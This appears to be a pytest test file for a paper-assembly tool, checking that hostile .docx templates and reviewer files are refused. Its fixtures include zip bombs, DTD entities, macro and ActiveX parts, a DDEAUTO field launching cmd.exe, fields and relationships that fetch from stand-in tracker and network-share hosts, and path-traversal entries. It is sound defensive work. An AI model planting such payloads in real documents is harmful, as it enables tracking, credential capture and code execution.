"""Hostile Word packages (issue 11): the paper's own template .docx gets the same zip-bomb bounds as a reviewer's
file, a template missing a part python-docx needs is a COE802 diagnostic, and a reviewer's file whose section
property nests 100,000 brackets deep is read without a traceback."""

from __future__ import annotations

import contextlib
import io
import re
import subprocess
import time
import zipfile
from pathlib import Path

import pytest

from conftest import REPO_ROOT, MakeProject, cli
from reviewkit import rewrite_part, tracked

TEMPLATE = (REPO_ROOT / "paper" / "template.docx").read_bytes()


def rezip(data: bytes, drop: str = "", replace: dict[str, bytes] | None = None) -> bytes:
    """A copy of a package without entry `drop` and with entries replaced (or added, when it has none of the name)."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != drop:
                target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info.filename)))
        for name, body in (replace or {}).items():
            if name not in source.namelist():
                target.writestr(name, body)
    return out.getvalue()


@pytest.mark.parametrize("part", ["word/_rels/document.xml.rels", "_rels/.rels", "word/document.xml"])
@pytest.mark.parametrize("command", ["validate", "assemble"])
def test_template_without_a_part_is_a_diagnostic(make_project: MakeProject, part: str, command: str) -> None:
    root = make_project({"paper/template.docx": rezip(TEMPLATE, drop=part)}, git=True)
    result = cli("--project", str(root), command)
    assert result.exit_code == 1
    assert "paper/template.docx: error COE802" in result.stderr
    assert not (root / "build").exists()


def test_template_zip_bomb_is_refused_before_it_is_inflated(make_project: MakeProject) -> None:
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        styles = package.read("word/styles.xml")
    bomb = styles.replace(b"</w:styles>", b"<!--" + b" " * 40_000_000 + b"--></w:styles>")  # 40 MB of nothing
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace={"word/styles.xml": bomb})}, git=True)
    started = time.monotonic()
    result = cli("--project", str(root), "assemble")
    assert time.monotonic() - started < 10
    assert result.exit_code == 1
    assert "error COE802 the template: entry 'word/styles.xml' expands" in result.stderr
    assert "zip bomb" in result.stderr


def test_template_part_over_the_part_limit_is_refused(make_project: MakeProject) -> None:
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        styles = package.read("word/styles.xml")
    filler = bytes(range(33, 127)) * 800_000  # 75 MB that compresses about 100 times: under the ratio, over 64 MB
    big = styles.replace(b"</w:styles>", b"<!--" + filler.replace(b"--", b"__") + b"--></w:styles>")
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace={"word/styles.xml": big})}, git=True)
    result = cli("--project", str(root), "assemble")
    assert result.exit_code == 1
    assert re.search(r"COE802 the template: (part|entry) 'word/styles.xml'", result.stderr), result.stderr


def _with_dtd(part: bytes, encoding: str) -> bytes:
    """The part with a DTD declaring an entity, and a reference to it in its first attribute value."""
    text = part.decode("utf-8")
    root = re.search(r"<w:\w+", text)
    assert root is not None
    text = text[:root.start()] + '<!DOCTYPE x [<!ENTITY e "entity">]>' + text[root.start():]
    text = re.sub(r'(w:val|w:name)="([^"]*)"', r'\1="\2&e;"', text, count=1)
    text = text.replace('encoding="UTF-8"', f'encoding="{encoding.upper()}"', 1)
    return text.encode(encoding)


@pytest.mark.parametrize(("part", "encoding"), [("word/styles.xml", "utf-8"), ("word/fontTable.xml", "utf-8"),
                                                ("word/fontTable.xml", "utf-16")])
def test_template_part_declaring_a_dtd_is_refused(make_project: MakeProject, part: str, encoding: str) -> None:
    """python-docx reads a template's parts without resolving entities, but wrote them back as they were: the
    entity's reference stayed, its declaration went, and the document's part was no longer XML."""
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        hostile = _with_dtd(package.read(part), encoding)
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace={part: hostile})}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command)
        assert result.exit_code == 1, result.stderr
        assert f"paper/template.docx: error COE802 the template: {part} declares a DTD" in result.stderr
    assert not (root / "build").exists()


_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _with_relationship(rels: bytes, kind: str, target: str, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return rels.replace(b"</Relationships>", f'<Relationship Id="rIdHostile" Type="{kind}" Target="{target}"{mode}/>'
                        "</Relationships>".encode())


@pytest.mark.parametrize("case", ["remote picture", "attached template", "macros", "workbook with macros"])
def test_template_with_macros_or_parts_fetched_from_elsewhere_is_refused(make_project: MakeProject,
                                                                          case: str) -> None:
    """A template .docx that has Word fetch a picture or an attached template from elsewhere when the paper is
    opened (a tracking pixel; a network share that is given the reader's Windows credentials), or that carries
    macros, is COE802: each was copied into the paper every member opens."""
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        document_rels = package.read("word/_rels/document.xml.rels")
        types = package.read("[Content_Types].xml")
    empty_rels = (b'<?xml version="1.0"?><Relationships '
                  b'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')
    replace, part, said = {
        "remote picture": ({"word/_rels/document.xml.rels": _with_relationship(
            document_rels, f"{_RELS}/image", "https://tracker.invalid/pixel.png")}, "word/document.xml",
            "has Word fetch 'https://tracker.invalid/pixel.png' from outside the document (its image relationship)"),
        "attached template": ({"word/_rels/settings.xml.rels": _with_relationship(
            empty_rels, f"{_RELS}/attachedTemplate", "file://share.invalid/templates/normal.dotm")},
            "word/settings.xml", "has Word fetch 'file://share.invalid/templates/normal.dotm' from outside"),
        "macros": ({"word/_rels/document.xml.rels": _with_relationship(document_rels, _VBA, "vbaProject.bin", False),
                    "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(508),
                    "[Content_Types].xml": types.replace(b"</Types>", b'<Default Extension="bin" ContentType='
                                                         b'"application/vnd.ms-office.vbaProject"/></Types>')},
                   "word/document.xml", "holds macros ('vbaProject.bin', its vbaProject relationship)"),
        "workbook with macros": ({"word/_rels/document.xml.rels": _with_relationship(
            document_rels, f"{_RELS}/package", "embeddings/book.xlsm", False), "word/embeddings/book.xlsm": b"PK",
            "[Content_Types].xml": types.replace(b"</Types>", b'<Default Extension="xlsm" ContentType='
                                                 b'"application/vnd.ms-excel.sheet.macroEnabled.12"/></Types>')},
            "word/embeddings/book.xlsm",
            "holds macros or an embedded program (application/vnd.ms-excel.sheet.macroEnabled.12)"),
    }[case]
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace=replace)}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
        assert result.exit_code == 1, result.stderr
        assert f"paper/template.docx: error COE802 the template: {part} {said}" in result.stderr
        assert "Traceback" not in result.stderr
    assert not (root / "build").exists()


_MASKS = {  # an active part as the relationship naming it says, under a content type that does not
    "macros": ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin",
               b"\xd0\xcf\x11\xe0" + bytes(508), "application/octet-stream", "macros"),
    "embedded program": (f"{_RELS}/oleObject", "embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0" + bytes(508),
                         "application/octet-stream", "an embedded program"),
    "ActiveX control": (f"{_RELS}/control", "activeX/activeX1.xml",
                        b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>', "application/xml",
                        "an ActiveX control"),
    "altChunk": (f"{_RELS}/aFChunk", "afchunk.htm", b"<html><body><img src='https://tracker.invalid/p.png'>"
                 b"</body></html>", "text/html", "content Word converts from another format"),
}


@pytest.mark.parametrize("case", list(_MASKS))
def test_template_with_an_active_part_under_another_content_type_is_refused(make_project: MakeProject,
                                                                             case: str) -> None:
    """Macros, an OLE object or an ActiveX control declared as 'application/octet-stream' or XML, and an altChunk
    (HTML that Word converts, fetching the pictures it names, when the paper is opened) were copied into the paper:
    the relationship that names the part says what it is, whatever its content type."""
    kind, target, body, content_type, said = _MASKS[case]
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        document_rels = package.read("word/_rels/document.xml.rels")
        types = package.read("[Content_Types].xml")
    declared = f'<Override PartName="/word/{target}" ContentType="{content_type}"/></Types>'.encode()
    replace = {"word/_rels/document.xml.rels": _with_relationship(document_rels, kind, target, False),
               f"word/{target}": body, "[Content_Types].xml": types.replace(b"</Types>", declared)}
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace=replace)}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
        assert result.exit_code == 1, result.stderr
        name = kind.rsplit("/", 1)[-1]
        assert (f"paper/template.docx: error COE802 the template: word/document.xml holds {said} ('{target}', its "
                f"{name} relationship); refusing to copy it into the paper") in result.stderr, result.stderr
        assert "Traceback" not in result.stderr
    assert not (root / "build").exists()


@pytest.mark.parametrize(("main", "said"), [
    ("application/vnd.ms-word.document.macroEnabled.main+xml",
     "holds macros or an embedded program (application/vnd.ms-word.document.macroEnabled.main+xml)"),
    ("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml",
     "is 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml', not a Word document's; "
     "save the template as a Word document (.docx)"),
])
def test_a_macro_enabled_document_or_a_word_template_renamed_docx_says_what_it_is(make_project: MakeProject,
                                                                                  main: str, said: str) -> None:
    """A .docm or a .dotx renamed .docx was 'not a usable Word template: ValueError file '<_io.BytesIO object at
    0x7f...>' is not a Word file': a memory address, another one on every run, where the file's kind belongs."""
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        types = package.read("[Content_Types].xml")
    renamed = types.replace(b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                            main.encode())
    assert renamed != types
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace={"[Content_Types].xml": renamed})}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
        assert result.exit_code == 1, result.stderr
        assert f"paper/template.docx: error COE802 the template: word/document.xml {said}" in result.stderr
        assert "0x" not in result.stderr and "Traceback" not in result.stderr
    assert not (root / "build").exists()


_WML = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _complex(*pieces: str) -> str:
    """A paragraph with a complex field whose instruction is written over a run for each piece."""
    runs = "".join(f"<w:r><w:instrText xml:space=\"preserve\">{piece}</w:instrText></w:r>" for piece in pieces)
    return (f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="separate"/>'
            '</w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')


def _with_story(kind: str, body: str) -> bytes:
    """The template with a part of `kind` (footer, header or footnotes) holding `body`, named from the document."""
    root = {"footnotes": "footnotes", "footer": "ftr", "header": "hdr"}[kind]
    types = {"footnotes": "footnotes", "footer": "footer", "header": "header"}[kind]
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        rels, content_types, document = (package.read(name) for name in (
            "word/_rels/document.xml.rels", "[Content_Types].xml", "word/document.xml"))
    part = f'<?xml version="1.0" encoding="UTF-8"?><w:{root} {_WML}>{body}</w:{root}>'.encode()
    reference = f'<w:{kind}Reference w:type="default" r:id="rIdStory"/>'.encode() if kind != "footnotes" else b""
    return rezip(TEMPLATE, replace={
        f"word/{kind}1.xml": part,
        "word/_rels/document.xml.rels": _with_relationship(rels, f"{_RELS}/{kind}", f"{kind}1.xml", False).replace(
            b"rIdHostile", b"rIdStory"),
        "[Content_Types].xml": content_types.replace(b"</Types>", f'<Override PartName="/word/{kind}1.xml" ContentType='
            f'"application/vnd.openxmlformats-officedocument.wordprocessingml.{types}+xml"/></Types>'.encode()),
        "word/document.xml": document.replace(b"<w:pgSz", reference + b"<w:pgSz", 1),
    })


@pytest.mark.parametrize(("kind", "body", "said"), [
    ("footer", '<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "https://tracker.invalid/p.png" \\d \'/></w:p>',
     'INCLUDEPICTURE "https://tracker.invalid/p.png" \\d'),
    ("header", _complex(" DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/c calc" '),
     'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"'),
    ("footnotes", '<w:footnote w:id="1"><w:p><w:fldSimple w:instr=\' INCLUDETEXT "\\\\share.invalid\\t.docx" \'/>'
     "</w:p></w:footnote>", 'INCLUDETEXT "\\\\share.invalid\\t.docx"'),
])
def test_template_with_a_field_that_fetches_or_runs_what_it_names_is_refused(make_project: MakeProject, kind: str,
                                                                             body: str, said: str) -> None:
    """A template's header, footer or footnotes holding a field that includes a picture or text from elsewhere, or
    runs a program (DDE), was copied into the paper, which asks Word to update its fields when it opens (to number
    the contents when LibreOffice did not): Word then fetched from a tracker or a network share (which is given the
    reader's Windows credentials), or offered to start the program."""
    root = make_project({"paper/template.docx": _with_story(kind, body)}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
        assert result.exit_code == 1, result.stderr
        assert (f"paper/template.docx: error COE802 the template: word/{kind}1.xml holds a field that has Word fetch "
                f"or run what it names when the paper's fields are updated ({said}); refusing to copy it into the "
                "paper") in result.stderr, result.stderr
    assert not (root / "build").exists()


def test_template_with_page_numbers_and_a_link_in_its_footer_is_used(make_project: MakeProject,
                                                                      tmp_path: Path) -> None:
    """The fields a footer holds to number pages or link to the partnership's site fetch nothing: the template is
    used, and its footer's fields are in the paper (read back with python-docx)."""
    from docx import Document

    footer = (_complex(" PAGE ") + '<w:p><w:fldSimple w:instr=\' HYPERLINK "https://example.org/partnership" \'>'
              "<w:r><w:t>partnership</w:t></w:r></w:fldSimple></w:p>")
    root = make_project({"paper/template.docx": _with_story("footer", footer)})
    result = cli("--project", str(root), "assemble", "--no-layout", "-o", str(tmp_path / "paper.docx"))
    assert result.exit_code == 0, result.stderr
    xml = "".join(section.footer._element.xml for section in Document(str(tmp_path / "paper.docx")).sections)
    assert " PAGE " in xml and "https://example.org/partnership" in xml


def test_template_with_a_hyperlink_in_its_footer_is_used(make_project: MakeProject, tmp_path: Path) -> None:
    """A hyperlink is the one relationship that may leave the template: the reader follows it, Word fetches nothing."""
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        document_rels = package.read("word/_rels/document.xml.rels")
    linked = _with_relationship(document_rels, f"{_RELS}/hyperlink", "https://example.org/partnership")
    root = make_project({"paper/template.docx": rezip(TEMPLATE, replace={"word/_rels/document.xml.rels": linked})})
    result = cli("--project", str(root), "assemble", "--no-layout", "-o", str(tmp_path / "paper.docx"))
    assert result.exit_code == 0, result.stderr
    from docx import Document

    assert Document(str(tmp_path / "paper.docx")).paragraphs


def test_reviewed_file_with_deeply_nested_section_property(make_project: MakeProject, tmp_path: Path) -> None:
    root = make_project(git=True)
    built = cli("--project", str(root), "assemble")
    assert built.exit_code == 0, built.stderr
    paper = root / "build" / "test-paper.docx"
    with zipfile.ZipFile(paper) as package:
        custom = package.read("docProps/custom.xml").decode()
    nested = "[" * 100_000 + "]" * 100_000
    custom = re.sub(r'(name="coe-paper:sections"[^>]*>\s*<vt:lpwstr>)[^<]*', lambda m: m.group(1) + nested, custom)
    reviewed = tmp_path / "reviewed.docx"
    reviewed.write_bytes(rezip(paper.read_bytes(), replace={"docProps/custom.xml": custom.encode()}))
    result = cli("--project", str(root), "comments", str(reviewed))
    assert result.exit_code == 0, result.stderr
    assert "0 comments, 0 replies, 0 tracked changes" in result.stderr  # the property is ignored, the file read


@pytest.mark.parametrize("named", ["paper/notes.md", "../notes.md", "/etc/hostname", ".git/config",
                                   "sections/../paper/notes.md"])
def test_a_section_map_naming_another_file_is_not_followed(make_project: MakeProject, tmp_path: Path,
                                                           named: str) -> None:
    """`apply` writes to the files the document's section map names: a reviewer's file whose map named a file
    other than a section's had its changes written there (`paper/notes.md`, a copy of the section; `.git/config`
    was read as a section), and a path out of the project ended in a traceback."""
    root = make_project(git=True)
    intro = (root / "sections/01-intro.md").read_text(encoding="utf-8")
    (root / "paper/notes.md").write_text(intro, encoding="utf-8")  # what a tampered map would lead apply to
    assert cli("--project", str(root), "assemble", "--no-layout").exit_code == 0
    built, edited, reviewed = root / "build/test-paper.docx", tmp_path / "edited.docx", tmp_path / "reviewed.docx"
    tracked(built, edited, [("so that urban policy ", "serves", "works for", "Ana Rossi")])
    rewrite_part(edited, reviewed, lambda xml: xml.replace(b"sections/01-intro.md", named.encode()),
                 "docProps/custom.xml")
    before = {path: path.read_bytes() for path in (root / "paper/notes.md", root / "sections/01-intro.md",
                                                    root / ".git/config")}
    result = cli("--project", str(root), "apply", str(reviewed))
    assert result.exit_code == 1
    assert "coe-paper: this document was not made by `coe-paper assemble` (it has no usable section map)" \
        in result.stderr
    assert {path: path.read_bytes() for path in before} == before
    untouched = cli("--project", str(root), "apply", str(edited))  # the map as the build wrote it
    assert untouched.exit_code == 0, untouched.stderr
    assert "works for everyone" in (root / "sections/01-intro.md").read_text(encoding="utf-8")


@pytest.mark.parametrize(("extra", "said"), [
    ("word/document.xml", "has two entries named 'word/document.xml': readers differ on which one they take"),
    ("WORD/Document.xml", "has two entries named 'WORD/Document.xml'"),
    ("../evil.xml", "has an entry named '../evil.xml', a path out of the package"),
    ("/word/evil.xml", "has an entry named '/word/evil.xml', a path out of the package")])
@pytest.mark.parametrize("command", [("comments",), ("apply", "--dry-run"), ("import", "--id", "reviewed", "--lead",
                                                                            "rome", "-o", "sections/09-new.md")])
def test_a_package_with_a_part_twice_or_named_out_of_it_is_refused(make_project: MakeProject, tmp_path: Path,
                                                                   extra: str, said: str,
                                                                   command: tuple[str, ...]) -> None:
    """Two entries of one name (or of names that differ in case, the same part): which one is the document
    depended on the reader, so a reviewer's file could show Word one text and `apply` another; an entry named
    with `..` or from `/` is no part of a Word document. Each is refused, naming the file; nothing is written."""
    root = make_project(git=True)
    assert cli("--project", str(root), "assemble", "--no-layout").exit_code == 0
    paper = (root / "build" / "test-paper.docx").read_bytes()
    reviewed = tmp_path / "reviewed.docx"
    with zipfile.ZipFile(io.BytesIO(paper)) as package:
        decoy = package.read("word/document.xml").replace(b"Introduction", b"Replaced by the second copy")
    with zipfile.ZipFile(reviewed, "w") as package, zipfile.ZipFile(io.BytesIO(paper)) as source:
        for info in source.infolist():
            package.writestr(info.filename, source.read(info))
        with pytest.warns(UserWarning) if extra == "word/document.xml" else contextlib.nullcontext():
            package.writestr(extra, decoy)
    given = [str(root / part) if part.startswith("sections/") else part for part in command[1:]]
    result = cli("--project", str(root), command[0], str(reviewed), *given)
    assert result.exit_code == 1
    assert f"reviewed.docx {said}" in result.stderr, result.stderr
    assert "Traceback" not in result.stderr
    assert not (root / "sections/09-new.md").exists()
    assert subprocess.run(["git", "-C", str(root), "status", "--porcelain", "--", "sections", "paper"],
                          capture_output=True, text=True, check=True).stdout == ""


def _types_twice(types: bytes) -> bytes:
    override = re.search(rb"<Override [^>]*/>", types)
    assert override is not None
    return types.replace(override.group(), override.group() * 2, 1)


def _extension_twice(types: bytes) -> bytes:
    """A second type for an extension, its name in capitals (the same extension: names differ in case only)."""
    default = re.search(rb'<Default Extension="([^"]+)"[^>]*/>', types)
    assert default is not None
    again = default.group().replace(default.group(1), default.group(1).upper())
    return types.replace(default.group(), default.group() + again, 1)


@pytest.mark.parametrize(("damage", "said"), [
    ("missing", "is not a Word document: it has no [Content_Types].xml"),
    ("part twice", "is not a Word document: its [Content_Types].xml names the part '/"),
    ("extension twice", "is not a Word document: its [Content_Types].xml names the extension '")])
@pytest.mark.parametrize("command", [("comments",), ("apply", "--dry-run"), ("import", "--id", "reviewed", "--lead",
                                                                            "rome", "-o", "sections/09-new.md")])
def test_a_package_without_content_types_or_naming_a_part_twice_is_refused(
        make_project: MakeProject, tmp_path: Path, damage: str, said: str, command: tuple[str, ...]) -> None:
    """A reviewer's file whose [Content_Types].xml is missing, or names a part's type (or an extension's) twice,
    is no package Word opens: it was read as if it were one. Each is refused naming the file; nothing is
    written."""
    root = make_project(git=True)
    assert cli("--project", str(root), "assemble", "--no-layout").exit_code == 0
    paper = (root / "build" / "test-paper.docx").read_bytes()
    with zipfile.ZipFile(io.BytesIO(paper)) as package:
        types = package.read("[Content_Types].xml")
    reviewed = tmp_path / "reviewed.docx"
    if damage == "missing":
        reviewed.write_bytes(rezip(paper, drop="[Content_Types].xml"))
    else:
        twice = _types_twice(types) if damage == "part twice" else _extension_twice(types)
        reviewed.write_bytes(rezip(paper, replace={"[Content_Types].xml": twice}))
    given = [str(root / part) if part.startswith("sections/") else part for part in command[1:]]
    result = cli("--project", str(root), command[0], str(reviewed), *given)
    assert result.exit_code == 1, result.stderr
    assert f"reviewed.docx {said}" in result.stderr, result.stderr
    assert not (root / "sections/09-new.md").exists()
    assert subprocess.run(["git", "-C", str(root), "status", "--porcelain", "--", "sections", "paper"],
                          capture_output=True, text=True, check=True).stdout == ""


@pytest.mark.parametrize(("damage", "said"), [
    ("missing", "is not a Word document: it has no [Content_Types].xml"),
    ("part twice", "is not a Word document: its [Content_Types].xml names the part '/"),
    ("extension twice", "is not a Word document: its [Content_Types].xml names the extension '")])
def test_template_without_content_types_or_naming_a_part_twice_is_refused(
        make_project: MakeProject, damage: str, said: str) -> None:
    """The paper's own template is held to a reviewer's file's [Content_Types].xml: one naming a part twice made a
    paper (Word opens neither), one missing it a message about python-docx's KeyError at no line. Each is a COE802 at
    paper.yaml's `template:`; nothing is written."""
    with zipfile.ZipFile(io.BytesIO(TEMPLATE)) as package:
        types = package.read("[Content_Types].xml")
    if damage == "missing":
        template = rezip(TEMPLATE, drop="[Content_Types].xml")
    else:
        twice = _types_twice(types) if damage == "part twice" else _extension_twice(types)
        template = rezip(TEMPLATE, replace={"[Content_Types].xml": twice})
    root = make_project({"paper/template.docx": template}, git=True)
    for command in ("validate", "assemble"):
        result = cli("--project", str(root), command, *(["--no-layout"] if command == "assemble" else []))
        assert result.exit_code == 1, result.stderr
        assert f"paper/paper.yaml:6:1: error COE802 the template {said}" in result.stderr, result.stderr
        assert result.stderr.count("COE802") == 1, result.stderr
    assert not (root / "build").exists()


@pytest.mark.parametrize("command", [("comments",), ("apply",)])
def test_a_bookmark_of_the_sources_name_with_a_huge_number_is_another_bookmark(make_project: MakeProject,
                                                                               tmp_path: Path,
                                                                               command: tuple[str, ...]) -> None:
    """A bookmark named as the build names its source marks but with a number of thousands of digits
    (`_Coe0_999...`, in a reviewer's file): `apply` ended in a Python traceback (ValueError: Exceeds the limit (4300
    digits) for integer string conversion) and `comments` refused the file. It is a bookmark of the reviewer's, as
    any other: the review's changes are listed and applied."""
    root = make_project(git=True)
    assert cli("--project", str(root), "assemble", "--no-layout").exit_code == 0
    built, edited, reviewed = root / "build/test-paper.docx", tmp_path / "edited.docx", tmp_path / "reviewed.docx"
    tracked(built, edited, [("so that urban policy ", "serves", "works for", "Ana Rossi")])
    huge = b'<w:bookmarkStart w:id="8999" w:name="_Coe0_' + b"9" * 5000 + b'"/><w:bookmarkEnd w:id="8999"/>'
    rewrite_part(edited, reviewed, lambda xml: re.sub(rb'(<w:bookmarkStart [^>]*w:name="_Coe0_)',
                                                      lambda m: huge + m.group(1), xml))
    result = cli("--project", str(root), *command, str(reviewed))
    assert result.exit_code == 0, result.stderr
    if command == ("comments",):
        assert 'sections/01-intro.md:' in result.stdout and '"works for"' in result.stdout
    else:
        assert "works for everyone" in (root / "sections/01-intro.md").read_text(encoding="utf-8")
